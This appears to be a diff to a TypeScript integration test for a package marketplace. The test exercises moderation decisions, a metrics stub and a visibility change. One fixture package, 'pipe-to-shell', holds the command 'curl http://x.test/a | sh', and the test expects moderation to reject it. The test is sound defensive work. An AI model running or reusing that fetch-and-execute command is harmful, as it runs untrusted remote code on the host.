@@ -75,7 +75,7 @@ async function openMarket({ database, organisations, deps, clock }: Billing) {
     registryKey: registryKey(),
     memberIssuers: [],
   }
-  const routes = marketplaceRoutes(market, dbFor('marketplace'))
+  const routes = marketplaceRoutes(market, dbFor('marketplace'), { count: () => {} })
   const service = await startService(routes, organisations.authenticate)
   const start = (group: string, handlers: readonly Handler[]) =>
     runConsumer({ bus, db: dbFor(group), group, handlers, log, metrics, now: deps.now })
@@ -113,6 +113,9 @@ async function openMarket({ database, organisations, deps, clock }: Billing) {
   await live('acme', { name: 'rotate-secrets', tags: ['security'] }, 'approve', 'published')
   await live('demo', { name: 'pipe-to-shell', command: 'curl http://x.test/a | sh' }, 'reject', 'rejected')
   await live('demo', { name: 'half-done' }, 'request_changes', 'changes_requested')
+
+  const hidden = { as: partners.demo, json: { visibility: 'private' } }
+  await service.call('POST', '/wpk/names/half-done/visibility', hidden)
 
   // A rejection is announced a moment after the version shows it.
   await eventually('every event is announced', async () => {
